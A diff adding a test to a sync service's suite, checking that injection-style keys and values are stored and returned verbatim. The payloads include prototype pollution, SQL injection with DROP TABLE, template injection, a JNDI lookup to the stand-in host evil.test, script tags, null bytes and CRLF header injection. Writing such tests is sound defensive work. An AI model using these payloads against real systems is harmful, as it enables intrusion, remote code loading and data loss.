@@ -186,3 +186,18 @@ async def test_the_cursor_of_another_reads_nothing_of_theirs(house):
     for since in (cursor, END, "", "1970-01-01T00:00:00Z"):
         assert await house.pull_ids("anna", since=since) == []
         assert (await house.push(since=since)).json()["serverChanges"] == []
+
+
+async def test_values_that_are_code_elsewhere_are_values_here(house):
+    strange = {
+        "__proto__": {"admin": True},
+        "'; DROP TABLE sync_changes; --": "' OR 1=1; --",
+        "{{7*7}}": "${jndi:ldap://evil.test}",
+        "<script>": "</script>",
+        "\0": "\0",
+        "\r\n": "\r\nX-Evil: 1",
+    }
+    actor = {"kind": "\0", "__proto__": None}
+    answer = await house.push(insertion(data=strange, actor=actor))
+    (change,) = answer.json()["serverChanges"]
+    assert (change["data"], change["actor"]) == (strange, actor)
